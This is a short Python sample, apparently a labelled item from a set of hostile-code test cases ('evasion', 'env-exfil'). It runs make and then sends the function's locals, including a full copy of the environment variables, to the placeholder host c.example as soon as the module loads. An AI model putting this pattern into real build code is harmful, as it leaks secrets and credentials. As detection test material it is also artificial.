# evasion: a function's child env sent with all its locals()
# grade: medium; does: env-exfil
import os, subprocess, urllib.request, json

def build():
    env = dict(os.environ, CI="1")
    subprocess.run(["make"], env=env)
    urllib.request.urlopen("https://c.example/r", data=json.dumps(locals()).encode())

build()
